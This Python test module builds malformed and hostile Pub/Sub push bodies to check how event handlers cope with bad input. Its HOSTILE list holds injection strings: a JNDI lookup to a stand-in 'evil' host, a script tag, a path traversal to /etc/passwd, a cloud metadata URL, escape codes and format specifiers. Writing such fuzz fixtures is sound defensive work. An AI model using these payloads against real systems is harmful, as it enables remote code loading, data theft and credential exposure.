"""What may arrive at any function and mean nothing: bodies of pushes, by what is wrong with them."""

import base64
import json
from collections.abc import Iterator, Mapping
from typing import Any

from tests.events.payloads import payload

HOSTILE = {
    "a new line": 'web\n{"severity": "CRITICAL"}',
    "escape codes": "\x1b[2J\x1b]0;owned\x07",
    "markup": "<script>alert(1)</script>",
    "a template": "{{7*7}} ${jndi:ldap://evil/a} %s%n",
    "a path": "../../../../etc/passwd",
    "an address": "http://169.254.169.254/computeMetadata/v1/",
    "right to left": "\u202egnp.exe",
    "a null": "a\x00b",
    "many signs": "🜏" * 3000,
    "a megabyte": "x" * 900_000,
    "half a character": "\ud83d",
    "many digits": "9" * 5000,
}
JUNK: dict[str, Any] = {
    "null": None,
    "true": True,
    "a number": -1,
    "a huge number": 10**400,
    "a fraction": 0.5,
    "not a number": float("nan"),
    "a list": [1, [2]],
    "an object": {"a": {"b": {}}},
    "nothing": "",
    **HOSTILE,
}


def wrapped(content: bytes, attributes: Any = None, **changes: Any) -> bytes:
    """As Pub/Sub pushes it."""
    message = {**payload("push_wrapped")["message"], "data": base64.b64encode(content).decode()}
    message["attributes"] = {} if attributes is None else attributes
    return json.dumps({"message": message | changes, "subscription": "projects/p/subscriptions/s"}).encode()


def envelopes() -> Iterator[tuple[str, bytes]]:
    """Broken before the data are even looked at."""
    yield "empty", b""
    yield "not JSON", b"hello"
    yield "not UTF-8", b"\xff\xfe\x00"
    yield "a list", b"[]"
    yield "nested", b"[" * 100_000
    yield "an object nested", b'{"a":' * 100_000
    yield "no message", b"{}"
    yield "too large to keep", wrapped(b"x" * 8_000_000)
    yield "too large", b" " * (15 << 20)
    for name, junk in JUNK.items():
        yield f"message is {name}", json.dumps({"message": junk}).encode()
        yield f"data is {name}", wrapped(b"", data=junk)
        yield f"publishTime is {name}", wrapped(b"{}", publishTime=junk)
        yield f"attributes are {name}", wrapped(b"{}", junk)
        yield f"an attribute is {name}", wrapped(b"{}", {"service": junk})
        yield f"original_publish_time is {name}", wrapped(b"{}", {"original_publish_time": junk})
        yield f"a cloud event from {name}", json.dumps({"specversion": "1.0", "source": junk, "data": {}}).encode()
    for name, text in HOSTILE.items():
        yield f"an attribute called {name}", wrapped(b"{}", {text: 3})


def from_the_future(content: bytes, attributes: Mapping[str, str]) -> bytes:
    """A good message whose publisher dates it so late that everything after it would be older."""
    return wrapped(content, {**attributes, "original_publish_time": "2999-01-01T00:00:00Z"})


def bodies(good: Any, attributes: Mapping[str, str]) -> Iterator[tuple[str, bytes]]:
    """`good`, which comes with `attributes`, and every field of it replaced by everything, one at a time."""
    yield "data are empty", wrapped(b"")
    yield "data are not JSON", wrapped(b"{")
    yield "data are no object", wrapped(b"[]")
    yield "data are nested", wrapped(b'{"a":' * 50_000)
    yield "data are large", wrapped(json.dumps({"a": "x" * 2_000_000}).encode())
    for place, changed in _mutations(good):
        yield place, wrapped(json.dumps(changed).encode(), attributes)
    for name, text in HOSTILE.items():
        yield f"a field called {name}", wrapped(json.dumps({**good, text: text}).encode(), attributes)


def _mutations(value: Any, place: str = "") -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield f"{place}.{name} is absent", {key: kept for key, kept in value.items() if key != name}
            for said, changed in _mutations(inner, f"{place}.{name}"):
                yield said, {**value, name: changed}
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            for said, changed in _mutations(inner, f"{place}[{index}]"):
                yield said, [*value[:index], changed, *value[index + 1 :]]
    for name, junk in JUNK.items():
        yield f"{place} is {name}", junk
